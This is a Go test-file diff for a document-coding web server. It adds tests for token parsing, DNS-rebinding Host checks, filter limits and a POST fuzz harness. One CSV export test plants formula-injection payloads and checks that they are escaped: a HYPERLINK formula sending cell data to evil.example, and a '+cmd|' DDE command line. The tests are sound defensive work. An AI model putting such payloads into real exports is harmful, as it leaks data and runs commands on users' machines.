@@ -6,11 +6,13 @@ import (
 	"encoding/csv"
 	"encoding/json"
 	"errors"
+	"flag"
 	"fmt"
 	"io"
 	"net"
 	"net/http"
 	"net/http/httptest"
+	"net/url"
 	"path/filepath"
 	"reflect"
 	"strings"
@@ -76,6 +78,9 @@ func do(t testing.TB, h http.Handler, method, target string, body io.Reader, hdr
 	h.ServeHTTP(rec, req)
 	return response{rec.Code, rec.Header(), rec.Body.Bytes()}
 }
+
+// jsonType is the header that every write needs.
+var jsonType = []string{"Content-Type", "application/json"}
 
 func get(t testing.TB, h http.Handler, target string) response {
 	t.Helper()
@@ -474,10 +479,6 @@ func TestPostDocuments(t *testing.T) {
 	if res := decode[postResult](t, r); res.Inserted != 2 || len(res.Skipped) != 1 {
 		t.Errorf("jsonl: %s", r.body)
 	}
-	r = post("Just some plain text about France.", "text/plain")
-	if res := decode[postResult](t, r); r.status != http.StatusCreated || res.Inserted != 1 {
-		t.Errorf("text: %d %s", r.status, r.body)
-	}
 	// Coding failures are reported, not stored.
 	r = post(`[{"id":"ok","text":"Fine."},{"id":"bad","text":"FAIL here"}]`, "application/json")
 	if res := decode[postResult](t, r); res.Inserted != 1 || len(res.Skipped) != 1 {
@@ -489,7 +490,7 @@ func TestPostDocuments(t *testing.T) {
 			t.Errorf("%q: %d %s", body, r.status, r.body)
 		}
 	}
-	if r := do(t, s, http.MethodPost, "/api/documents?format=docx", strings.NewReader("x")); r.status != http.StatusBadRequest {
+	if r := do(t, s, http.MethodPost, "/api/documents?format=docx", strings.NewReader("x"), jsonType...); r.status != http.StatusBadRequest {
 		t.Errorf("bad format: %d", r.status)
 	}
 	if r := do(t, s, http.MethodGet, "/api/documents", nil); r.status != http.StatusMethodNotAllowed {
@@ -497,7 +498,7 @@ func TestPostDocuments(t *testing.T) {
 	}
 	// No coder: 503.
 	s2 := server.New(db, server.Options{})
-	if r := do(t, s2, http.MethodPost, "/api/documents", strings.NewReader(`{"text":"x"}`)); r.status != http.StatusServiceUnavailable {
+	if r := do(t, s2, http.MethodPost, "/api/documents", strings.NewReader(`{"text":"x"}`), jsonType...); r.status != http.StatusServiceUnavailable {
 		t.Errorf("no coder: %d", r.status)
 	}
 }
@@ -505,24 +506,25 @@ func TestPostDocuments(t *testing.T) {
 func TestBodyLimit(t *testing.T) {
 	s, _ := newServer(t, server.Options{MaxBodyBytes: 1024})
 	big := `{"text":"` + strings.Repeat("a", 2000) + `"}`
-	if r := do(t, s, http.MethodPost, "/api/documents", strings.NewReader(big)); r.status != http.StatusRequestEntityTooLarge {
+	if r := do(t, s, http.MethodPost, "/api/documents", strings.NewReader(big), jsonType...); r.status != http.StatusRequestEntityTooLarge {
 		t.Errorf("declared length: %d %s", r.status, r.body)
 	}
 	// Without a Content-Length (chunked), the limit is enforced on read.
 	req := httptest.NewRequest(http.MethodPost, "/api/documents", io.MultiReader(strings.NewReader(big)))
 	req.ContentLength = -1
+	req.Header.Set("Content-Type", "application/json")
 	rec := httptest.NewRecorder()
 	s.ServeHTTP(rec, req)
 	if rec.Code != http.StatusRequestEntityTooLarge {
 		t.Errorf("chunked: %d %s", rec.Code, rec.Body)
 	}
-	if r := do(t, s, http.MethodPost, "/api/documents", strings.NewReader(`{"text":"small enough"}`)); r.status != http.StatusCreated {
+	if r := do(t, s, http.MethodPost, "/api/documents", strings.NewReader(`{"text":"small enough"}`), jsonType...); r.status != http.StatusCreated {
 		t.Errorf("small body: %d", r.status)
 	}
 	// The default is 10 MiB.
 	s2, _ := newServer(t, server.Options{})
 	huge := `{"text":"` + strings.Repeat("b", server.DefaultMaxBodyBytes) + `"}`
-	if r := do(t, s2, http.MethodPost, "/api/documents", strings.NewReader(huge)); r.status != http.StatusRequestEntityTooLarge {
+	if r := do(t, s2, http.MethodPost, "/api/documents", strings.NewReader(huge), jsonType...); r.status != http.StatusRequestEntityTooLarge {
 		t.Errorf("10 MiB default: %d", r.status)
 	}
 }
@@ -539,24 +541,27 @@ func TestSecurityHeaders(t *testing.T) {
 			t.Errorf("%s: no nosniff", target)
 		}
 	}
-	if r := do(t, s, http.MethodPost, "/api/documents", strings.NewReader("{")); r.header.Get("Content-Security-Policy") == "" {
+	if r := do(t, s, http.MethodPost, "/api/documents", strings.NewReader("{"), jsonType...); r.header.Get("Content-Security-Policy") == "" {
 		t.Error("POST error response lacks CSP")
 	}
 }
 
+// TestToken checks the bearer token on writes. The scheme is
+// case-insensitive (RFC 7235), so "bearer" and "BEARER" work as "Bearer".
 func TestToken(t *testing.T) {
 	s, _ := newServer(t, server.Options{Token: "s3cret"})
-	body := `{"id":"t1","text":"Token test."}`
-	for _, c := range []struct {
+	for i, c := range []struct {
 		auth string
 		want int
 	}{
 		{"", http.StatusUnauthorized}, {"Bearer wrong", http.StatusUnauthorized}, {"s3cret", http.StatusUnauthorized},
-		{"Basic czNjcmV0", http.StatusUnauthorized}, {"Bearer s3cret", http.StatusCreated},
+		{"Basic czNjcmV0", http.StatusUnauthorized}, {"Bearer", http.StatusUnauthorized}, {"Bearers3cret", http.StatusUnauthorized},
+		{"Bearer s3cret", http.StatusCreated}, {"bearer s3cret", http.StatusCreated}, {"BEARER  s3cret", http.StatusCreated},
 	} {
-		var hdr []string
+		body := fmt.Sprintf(`{"id":"t%d","text":"Token test number %d."}`, i, i)
+		hdr := jsonType
 		if c.auth != "" {
-			hdr = []string{"Authorization", c.auth}
+			hdr = append([]string{"Authorization", c.auth}, jsonType...)
 		}
 		r := do(t, s, http.MethodPost, "/api/documents", strings.NewReader(body), hdr...)
 		if r.status != c.want {
@@ -581,11 +586,15 @@ func TestIsLoopback(t *testing.T) {
 }
 
 func TestListenAndServe(t *testing.T) {
-	s, _ := newServer(t, server.Options{})
+	s, db := newServer(t, server.Options{})
 	// Off loopback without a token: refused before listening.
 	err := s.ListenAndServe(context.Background(), "0.0.0.0:0", time.Second, nil)
 	if !errors.Is(err, server.ErrTokenRequired) {
 		t.Fatalf("non-loopback without token: %v", err)
+	}
+	bad := server.New(db, server.Options{AllowedHosts: []string{"http://x.example/"}})
+	if err := bad.ListenAndServe(context.Background(), "127.0.0.1:0", time.Second, nil); err == nil || !strings.Contains(err.Error(), "allowed host") {
+		t.Fatalf("bad allowed host: %v", err)
 	}
 
 	ctx, cancel := context.WithCancel(context.Background())
@@ -605,6 +614,27 @@ func TestListenAndServe(t *testing.T) {
 	resp.Body.Close()
 	if resp.StatusCode != http.StatusOK || resp.Header.Get("Content-Security-Policy") == "" {
 		t.Errorf("live GET: %d %v", resp.StatusCode, resp.Header)
+	}
+	// The live server knows it listens on loopback: a DNS rebinding
+	// request, which names the attacker's host, is refused, and so is a
+	// loopback name with another port than the one bound.
+	_, port, _ := net.SplitHostPort(addr.String())
+	for host, want := range map[string]int{
+		"attacker.example:" + port: http.StatusMisdirectedRequest,
+		"localhost:" + port:        http.StatusOK,
+		"[::1]:" + port:            http.StatusOK,
+		"localhost:1":              http.StatusMisdirectedRequest,
+	} {
+		req, _ := http.NewRequest(http.MethodGet, "http://"+addr.String()+"/api/stats", nil)
+		req.Host = host
+		resp, err := http.DefaultClient.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		resp.Body.Close()
+		if resp.StatusCode != want {
+			t.Errorf("live GET with Host %q: %d, want %d", host, resp.StatusCode, want)
+		}
 	}
 	cancel()
 	if err := <-done; err != nil {
@@ -699,4 +729,226 @@ func TestEvents_GeonameID(t *testing.T) {
 	if exp.status != http.StatusOK || strings.Count(string(exp.body), "\n") != 1 || !strings.Contains(string(exp.body), "n1") {
 		t.Errorf("export by id: status %d body %s", exp.status, exp.body)
 	}
+}
+
+// TestFilters_TooLong checks that a filter value beyond the store's bounds
+// is the client's error (400) naming the parameter, never a 500: SQLite
+// refuses LIKE patterns over 50,000 bytes and deep OR chains.
+func TestFilters_TooLong(t *testing.T) {
+	s, _ := newServer(t, server.Options{})
+	long := strings.Repeat("a", 50000)
+	justOver := strings.Repeat("a", store.MaxFilterBytes+1)
+	many := strings.TrimSuffix(strings.Repeat("MIL,", 3000), ",")
+	for _, c := range []struct {
+		target, param string
+	}{
+		{"/api/events?actor_name=" + long, "actor_name"},
+		{"/api/events?recipient_name=" + justOver, "recipient_name"},
+		{"/api/events?place=" + long, "place"},
+		{"/api/events?q=" + long, "q"},
+		{"/api/events?actor_sector=" + many, "actor_sector"},
+		{"/api/events?type=A" + strings.Repeat("&type=B", store.MaxFilterValues), "type"},
+		{"/api/places?actor_name=" + long, "actor_name"},
+		{"/api/actors/network?recipient_sector=" + many, "recipient_sector"},
+		{"/api/stats/timeline?actor_name=" + long, "actor_name"},
+		{"/api/export/events.csv?actor_name=" + long, "actor_name"},
+		{"/api/quotes?speaker=" + long, "speaker"},
+		{"/api/quotes?country=" + many, "country"},
+		{"/api/events?cursor=" + long, "cursor"},
+	} {
+		r := get(t, s, c.target)
+		if r.status != http.StatusBadRequest {
+			t.Errorf("%.60s: status %d, want 400 (%s)", c.target, r.status, r.body)
+			continue
+		}
+		if msg := decode[map[string]string](t, r)["error"]; !strings.HasPrefix(msg, c.param+":") {
+			t.Errorf("%.60s: error %q does not name %s", c.target, msg, c.param)
+		}
+	}
+	// At the limits the filters run.
+	for _, target := range []string{
+		"/api/events?actor_name=" + strings.Repeat("a", store.MaxFilterBytes),
+		"/api/events?actor_sector=" + strings.TrimSuffix(strings.Repeat("MIL,", store.MaxFilterValues), ","),
+		"/api/events?q=" + strings.Repeat("a,", 200), // commas in free text are not list items
+		"/api/quotes?speaker=" + strings.Repeat("a", store.MaxFilterBytes),
+	} {
+		if r := get(t, s, target); r.status != http.StatusOK {
+			t.Errorf("%.60s: status %d (%s)", target, r.status, r.body)
+		}
+	}
+}
+
+// encodeURIComponent escapes s as the web app's JavaScript does: all but
+// A-Z a-z 0-9 - _ . ! ~ * ' ( ).
+func encodeURIComponent(s string) string {
+	var b strings.Builder
+	for _, c := range []byte(s) {
+		if 'a' <= c && c <= 'z' || 'A' <= c && c <= 'Z' || '0' <= c && c <= '9' || strings.IndexByte("-_.!~*'()", c) >= 0 {
+			b.WriteByte(c)
+		} else {
+			fmt.Fprintf(&b, "%%%02X", c)
+		}
+	}
+	return b.String()
+}
+
+// TestDocument_IDsRoundTrip checks that ids holding characters with a
+// meaning in URLs come back from GET /api/documents/{id} as posted,
+// whether the client escapes them as the web app does
+// (encodeURIComponent) or as Go's url.PathEscape does (which leaves + : =
+// alone).
+func TestDocument_IDsRoundTrip(t *testing.T) {
+	s, _ := newServer(t, server.Options{})
+	ids := []string{"AFP/2024/123", "a+b", "a;b", "a:b", "a=b", "a?b", "100%", "two words", "a%2Fb", "x/y+z;1:2=3?4%5 6", "/lead", "trail/"}
+	for i, id := range ids {
+		body, _ := json.Marshal(map[string]string{"id": id, "text": fmt.Sprintf("Document number %d about France.", i)})
+		if r := do(t, s, http.MethodPost, "/api/documents", bytes.NewReader(body), "Content-Type", "application/json"); r.status != http.StatusCreated {
+			t.Fatalf("post %q: %d %s", id, r.status, r.body)
+		}
+	}
+	for _, id := range ids {
+		for name, esc := range map[string]func(string) string{"encodeURIComponent": encodeURIComponent, "PathEscape": url.PathEscape} {
+			target := "/api/documents/" + esc(id)
+			r := get(t, s, target)
+			if r.status != http.StatusOK {
+				t.Errorf("%s %q (%s): status %d %s", name, id, target, r.status, r.body)
+				continue
+			}
+			if got := decode[store.Document](t, r).Record.DocID; got != id {
+				t.Errorf("%s %q: got document %q", name, id, got)
+			}
+		}
+	}
+	// Unescaped slashes reach the same document.
+	if r := get(t, s, "/api/documents/AFP/2024/123"); r.status != http.StatusOK {
+		t.Errorf("unescaped slashes: %d %s", r.status, r.body)
+	}
+	if r := get(t, s, "/api/documents/AFP%2F2024"); r.status != http.StatusNotFound {
+		t.Errorf("prefix of an id: %d", r.status)
+	}
+}
+
+// TestExportCSV_FormulasEscaped checks that text cells a spreadsheet would
+// run as formulas leave the CSV export behind a single quote, while numbers
+// (negative coordinates and intensities, numeric text) stay numbers.
+func TestExportCSV_FormulasEscaped(t *testing.T) {
+	docs := storetest.Fixture()
+	d2 := &docs[1].Record // PROTEST in Nairobi (lat -1.28), AID in Mombasa
+	hyper := `=HYPERLINK("http://evil.example/?"&A1,"click")`
+	d2.Events[0].Actor[0].EntityName = hyper
+	d2.Events[0].Evidence.TriggerText = "@SUM(1+1)"
+	d2.Events[0].Location.Name = "+cmd|' /C calc'!A0"
+	d2.Events[0].Recipient[0].EntityName = "\tTabbed"
+	d2.Events[1].Actor[0].EntityName = "-2+3"
+	d2.Events[1].ClaimedBy.EntityName = "-2+3"
+	d2.Events[1].Recipient[0].EntityName = "-5"
+	d2.Events[1].Location.Name = "\rReturn"
+	db := newStore(t)
+	if _, err := db.PutDocuments(context.Background(), docs); err != nil {
+		t.Fatal(err)
+	}
+	s := server.New(db, server.Options{})
+	r := get(t, s, "/api/export/events.csv?recipient_country=KEN")
+	if r.status != http.StatusOK {
+		t.Fatalf("status %d %s", r.status, r.body)
+	}
+	recs, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
+	if err != nil || len(recs) != 3 {
+		t.Fatalf("csv %v: %q", err, r.body)
+	}
+	col := map[string]int{}
+	for i, h := range recs[0] {
+		col[h] = i
+	}
+	protest, aid := recs[2], recs[1] // AID is dated a day earlier
+	for _, c := range []struct {
+		row       []string
+		col, want string
+	}{
+		{protest, "actor_name", "'" + hyper},
+		{protest, "trigger", "'@SUM(1+1)"},
+		{protest, "location_name", "'+cmd|' /C calc'!A0"},
+		{protest, "recipient_name", "'\tTabbed"},
+		{protest, "lat", "-1.28"},
+		{protest, "event", "PROTEST"},
+		{aid, "actor_name", "'-2+3"},
+		{aid, "claimed_by", "'-2+3"},
+		{aid, "recipient_name", "-5"},
+		{aid, "location_name", "'\rReturn"},
+		{aid, "lat", "-4.04"},
+	} {
+		if got := c.row[col[c.col]]; got != c.want {
+			t.Errorf("%s %s = %q, want %q", c.row[col["event"]], c.col, got, c.want)
+		}
+	}
+	// Intensity is numeric: d1/e1's -9 stays a number.
+	r = get(t, s, "/api/export/events.csv?type=ASSAULT")
+	recs, _ = csv.NewReader(bytes.NewReader(r.body)).ReadAll()
+	if len(recs) != 2 || recs[1][col["intensity"]] != "-9" {
+		t.Errorf("intensity: %v", recs)
+	}
+}
+
+// postFuzzLimit is how long one fuzz input may take under -fuzz; a slower
+// one is reported, since a request that slow is a denial of service.
+const postFuzzLimit = 10 * time.Second
+
+// fuzzing reports whether go test runs with -fuzz, in the coordinator or a
+// worker process (both get -test.fuzz); the testing package has no
+// accessor for it.
+func fuzzing() bool {
+	fl := flag.Lookup("test.fuzz")
+	return fl != nil && fl.Value.String() != ""
+}
+
+// FuzzPostDocument checks that no body, Content-Type and token make POST
+// /api/documents panic or fail with a 5xx: whatever a client sends is
+// either coded (2xx) or its own error (4xx). The store is a fresh one in a
+// temporary directory; the coder is fakeCoder, since the handler, not the
+// pipeline, is under test.
+func FuzzPostDocument(f *testing.F) {
+	for _, seed := range []struct {
+		ct, body string
+		auth     bool
+	}{
+		{"application/json", `{"id":"f1","date":"2024-05-01","title":"T","text":"France accused Kenya.","url":"https://example.org/1"}`, false},
+		{"application/json; charset=utf-8", `[{"text":"One."},{"text":"Two FAIL."}]`, false},
+		{"application/x-ndjson", "{\"text\":\"a\"}\n{broken\n{\"id\":\"\",\"text\":\"\"}\n", false},
+		{"application/json", `{"id":"x"}`, false},
+		{"application/json", `{"text":"\u0000\ud800","date":"yesterday"}`, false},
+		{"application/json", "", false},
+		{"application/json", "[[[[[[[[[[", false},
+		{"application/json", `{"text":1e999}`, false},
+		{"text/plain", "Plain text about France.", true},
+		{"text/plain", "Plain text without a token.", false},
+		{"text/plain; charset=latin1", "\xff\xfe\x00", true},
+		{"", "<html><body><p>France</p></body></html>", true},
+		{"application/x-www-form-urlencoded", "text=France", false},
+		{"multipart/form-data; boundary=", "--\r\n", true},
+		{"application/json;;", "{}", true},
+	} {
+		f.Add(seed.ct, []byte(seed.body), seed.auth)
+	}
+	s, _ := newServer(f, server.Options{Token: "tok", MaxBodyBytes: 1 << 16})
+	f.Fuzz(func(t *testing.T, ct string, body []byte, auth bool) {
+		req := httptest.NewRequest(http.MethodPost, "/api/documents", bytes.NewReader(body))
+		req.Header.Set("Content-Type", ct)
+		if auth {
+			req.Header.Set("Authorization", "Bearer tok")
+		}
+		if fuzzing() {
+			// Only while fuzzing: seed runs in CI have no timer.
+			ctx, cancel := context.WithTimeout(req.Context(), postFuzzLimit)
+			defer cancel()
+			req = req.WithContext(ctx)
+		}
+		rec := httptest.NewRecorder()
+		s.ServeHTTP(rec, req)
+		if err := req.Context().Err(); err != nil {
+			t.Fatalf("Content-Type %q, body %q: took longer than %v", ct, body, postFuzzLimit)
+		}
+		if rec.Code < 200 || rec.Code > 499 {
+			t.Fatalf("Content-Type %q, body %q: status %d %s", ct, body, rec.Code, rec.Body)
+		}
+	})
 }
